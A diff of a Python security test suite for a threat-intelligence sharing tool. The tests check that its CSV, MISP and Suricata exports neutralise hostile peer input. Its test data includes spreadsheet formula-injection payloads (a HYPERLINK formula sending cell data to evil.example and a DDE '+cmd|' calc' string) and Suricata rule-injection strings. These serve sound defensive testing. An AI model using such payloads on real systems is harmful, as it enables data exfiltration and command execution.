@@ -20,6 +20,7 @@ from idstools import rule as ids_rule
 from pymisp import MISPAttribute, MISPObject
 from stix2validator import ValidationOptions, validate_string
 
+from cbm.measures.indicators.formats.list_cells import split_items
 from tests.conftest import Party
 
 URLS = [
@@ -33,6 +34,11 @@ EMAILS = ['"a;b"@evil.example', "=1+1@evil.example"]
 NAMES = ['x"; sid:1; msg:"y', "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0",
          "-2+3", "@SUM(1,1)", "a|b\\c;d", "'=already an apostrophe"]
 RANGES = ["0.0.0.0/1", "128.0.0.0/1", "::/1", "8000::/1"]
+# list items a CSV cell's separators would cut (ADR 0277), and descriptions with a lone carriage return
+LABELS = ["APT28, Fancy Bear", "a;b|c", " edge space ", "[not json", '["looks","like json"]', "=SUM(1,2)",
+          "line\rbreak"]
+TYPES = ["malicious-activity", "odd, type", "=x;y"]
+DESCRIPTIONS = ["windows\r\nline breaks", "a lone\rcarriage return"]
 VALUES = [*URLS, *DOMAINS, *EMAILS, *RANGES]
 
 
@@ -44,7 +50,10 @@ def exported(us_ru: tuple[Party, Party], tmp_path: Path) -> dict[str, str]:
     for n, value in enumerate(VALUES):
         name = NAMES[n % len(NAMES)]
         r = ru.cli("indicators", "add", "--value", value, "--tlp", "GREEN", "--name", name,
-                   "--description", f"{name}\nsecond line, \"quoted\"; =1+1", "--label", name)
+                   "--description", f"{name}\nsecond line, \"quoted\"; =1+1" if n > 1 else DESCRIPTIONS[n],
+                   "--label", name, "--label", LABELS[n % len(LABELS)], "--label", LABELS[(n + 3) % len(LABELS)],
+                   "--indicator-type", TYPES[n % len(TYPES)], "--indicator-type", TYPES[(n + 1) % len(TYPES)],
+                   "--sector", "energy", "--sector", "finance")
         assert r.exit_code == 0, (value, r.stderr)
     bundle = tmp_path / "ru-to-us.cbm"
     assert ru.cli("bundle", "export", "--to", "US", "-o", str(bundle)).exit_code == 0
@@ -55,7 +64,7 @@ def exported(us_ru: tuple[Party, Party], tmp_path: Path) -> dict[str, str]:
         path = tmp_path / f"export.{fmt}"
         r = us.cli("indicators", "export", "--format", fmt, "--include-flagged", "-o", str(path))
         assert r.exit_code == 0, (fmt, r.stderr)
-        out[fmt] = path.read_text(encoding="utf-8")
+        out[fmt] = path.read_bytes().decode("utf-8")  # as written: no newline translation
     return out
 
 
@@ -128,17 +137,18 @@ def test_csv_keeps_every_row_whole_and_no_cell_a_spreadsheet_would_run(exported)
     names = {_as_read(row[header.index("name")]) for row in body}
     assert names == set(NAMES)  # the peer's text, whole, once the export's one apostrophe is read away
     descriptions = {row[header.index("description")] for row in body}
-    assert all(d.endswith('second line, "quoted"; =1+1') for d in descriptions)
+    assert all(d.endswith('second line, "quoted"; =1+1') for d in descriptions - set(DESCRIPTIONS))
+    assert set(DESCRIPTIONS) <= descriptions  # a lone carriage return quoted: the row stays whole
 
 
 def test_csv_export_imported_again_gives_back_every_value_and_text_exactly(exported, make_party, tmp_path):
     """The export's apostrophes are the only ones the import takes away: a third store importing US's CSV
     export holds the peer's values, names and descriptions exactly (a text that truly starts with an apostrophe
-    too): its own CSV export writes the same cells. (Labels are left out: a list cell is split on commas as well
-    as semicolons, so a label holding a comma comes back as two, apostrophes or not.)"""
+    too), and every list (a label or an indicator type holding a comma, a semicolon, a pipe, a bracket, space at
+    its edge, a line break: ADR 0277): its own CSV export writes the same cells."""
     eu = make_party("EU")
     path = tmp_path / "export.csv"
-    path.write_text(exported["csv"], encoding="utf-8")
+    path.write_bytes(exported["csv"].encode("utf-8"))
     r = eu.cli("indicators", "import", str(path), "--json")
     assert r.exit_code == 0, r.stderr
     again = tmp_path / "again.csv"
@@ -146,10 +156,18 @@ def test_csv_export_imported_again_gives_back_every_value_and_text_exactly(expor
 
     def texts(text: str) -> list[tuple[str, ...]]:
         header, *body = csv.reader(io.StringIO(text, newline=""))
-        return sorted(tuple(row[header.index(c)] for c in ("value", "name", "description"))
+        return sorted(tuple(row[header.index(c)] for c in ("value", "name", "description", "sectors", "labels",
+                                                            "indicator_types"))
                       for row in body)
 
-    assert texts(again.read_text(encoding="utf-8")) == texts(exported["csv"])
+    assert texts(again.read_bytes().decode("utf-8")) == texts(exported["csv"])
+    header, *body = csv.reader(io.StringIO(exported["csv"], newline=""))
+    lists = {_as_read(row[header.index("value")]): [split_items(_as_read(row[header.index(c)]))
+                                                    for c in ("labels", "indicator_types")] for row in body}
+    for n, value in enumerate(_stored_forms()):  # each item whole, in the export and so in the third store
+        labels, types = lists[value]
+        assert set(labels) == {NAMES[n % len(NAMES)], LABELS[n % len(LABELS)], LABELS[(n + 3) % len(LABELS)]}
+        assert set(types) == {TYPES[n % len(TYPES)], TYPES[(n + 1) % len(TYPES)]}
 
 
 def test_misp_event_loads_in_pymisp_strict_mode(exported):
@@ -218,7 +236,11 @@ def test_csv_export_neutralises_a_peer_batchs_id_type_and_times_too(us_ru, tmp_p
     from tests.security.test_malformed_records import land
 
     us, ru = us_ru
-    signed = ["=1+1", "=2+2", "evil.example", '=HYPERLINK("http://evil.example/")', "+cmd|' /C calc'!A0"]
+    # an id or a type like these makes the whole batch malformed at landing (ADR 0269): it reaches no export
+    land(ru, us, "indicators.batch", {"fields": ["id", "type", "value"], "rows": [["=1+1", "=2+2", "evil.example"]]},
+         tmp_path / "a.cbmb")
+    signed = ["indicator--0b6c7a2e-5d4f-4e3a-8b1c-2d3e4f5a6b7c", "domain-name", "evil.example",
+              '=HYPERLINK("http://evil.example/")', "+cmd|' /C calc'!A0"]
     land(ru, us, "indicators.batch", {"fields": ["id", "type", "value", "valid_until", "valid_from"],
                                       "rows": [signed]}, tmp_path / "b.cbmb")
     r = us.cli("indicators", "export", "--format", "csv", "--include-flagged", "-o", str(tmp_path / "out.csv"))
@@ -233,15 +255,17 @@ def test_a_peer_batchs_address_or_id_never_writes_suricata_rule_text(us_ru, tmp_
     """A peer's signed batch holds a row's value and id only to the single-line rule, and the Suricata export put
     both in the rule as they were: an address ``203.0.113.9] any (msg:"own"; filestore; sid:5;) #`` became the
     peer's own rule, ``::1,$EXTERNAL_NET`` a rule on all outside traffic, an id ``x; noalert;`` an option. Such
-    rows are skipped and counted; honest rows beside them still make their rules (ADR 0267)."""
+    rows never land (ADR 0269: the id makes its batch malformed, the values are left out of theirs); honest rows
+    beside them still make their rules."""
     from tests.security.test_malformed_records import land
 
     us, ru = us_ru
     land(ru, us, "indicators.batch", {"fields": ["id", "type", "value"], "rows": [
+        ["x; noalert; metadata: y", "domain-name", "evil.example"]]}, tmp_path / "a.cbmb")
+    land(ru, us, "indicators.batch", {"fields": ["id", "type", "value"], "rows": [
         ["indicator--0b6c7a2e-5d4f-4e3a-8b1c-2d3e4f5a6b7c", "ipv4-addr",
          '203.0.113.9] any (msg:"own"; filestore; sid:5;) #'],
         ["indicator--1b6c7a2e-5d4f-4e3a-8b1c-2d3e4f5a6b7c", "ipv6-addr", "::1,$EXTERNAL_NET"],
-        ["x; noalert; metadata: y", "domain-name", "evil.example"],
         ["indicator--3b6c7a2e-5d4f-4e3a-8b1c-2d3e4f5a6b7c", "ipv4-addr", "198.51.100.7"]]}, tmp_path / "b.cbmb")
     out = tmp_path / "out.rules"
     r = us.cli("indicators", "export", "--format", "suricata", "--include-flagged", "-o", str(out), "--json")
@@ -250,4 +274,4 @@ def test_a_peer_batchs_address_or_id_never_writes_suricata_rule_text(us_ru, tmp_
     parsed = [ids_rule.parse(line) for line in lines]
     assert len(lines) == 1 and parsed[0] is not None and "[198.51.100.7]" in lines[0], lines
     assert not any(word in lines[0] for word in ("filestore", "EXTERNAL_NET", "noalert")), lines
-    assert sum(r.json()["skipped"].values()) == 3, r.stdout
+    assert sum(r.json()["skipped"].values()) == 0, r.stdout  # nothing left for the export's own defence
